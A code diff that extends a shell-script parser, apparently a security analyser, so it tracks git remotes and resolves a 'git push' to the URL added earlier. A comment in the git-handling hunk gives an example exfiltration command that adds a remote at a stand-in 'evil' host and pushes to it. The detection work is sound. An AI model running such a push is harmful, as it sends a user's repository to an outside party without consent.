@@ -144,11 +144,13 @@ class _Scope:
         self.downloads: dict[str, str] = {}   # path -> downloader name
         self.aliases: dict[str, str] = {}
         self.written: dict[str, str] = {}     # path -> text a script wrote there (echo/printf/cat <<EOF > f)
+        self.remotes: dict[str, str] = {}     # git remote name -> URL added earlier in the script
 
     def child(self) -> "_Scope":
         s = _Scope(self.cwd, self.home, self.vars)
         s.downloads = self.downloads
         s.aliases = self.aliases
+        s.remotes = self.remotes
         s.written = self.written
         return s
 
@@ -646,6 +648,15 @@ class ShellParser:
             if target.startswith("~"):
                 target = scope.home + target[1:]
             scope.cwd = posixpath.normpath(posixpath.join(scope.cwd or "", target)) if scope.cwd or target.startswith("/") else scope.cwd
+            return
+        if name == "git":
+            pos = [a for a in args if not a.startswith("-")]
+            if pos[:2] in (["remote", "add"], ["remote", "set-url"]) and len(pos) >= 4:
+                scope.remotes[pos[2]] = pos[3]
+            elif pos[:1] == ["push"] and len(pos) >= 2 and pos[1] in scope.remotes:
+                # `git remote add x https://evil/x.git && git push x`: the push goes to that URL
+                argv = ["git"] + [scope.remotes[pos[1]] if a == pos[1] else a for a in args]
+                self._nested_argv(argv, cmd, scope, depth, out, via="git remote")
             return
         if name in ("curl", "wget", "aria2c", "fetch"):
             for f in downloaded_files(cmd):
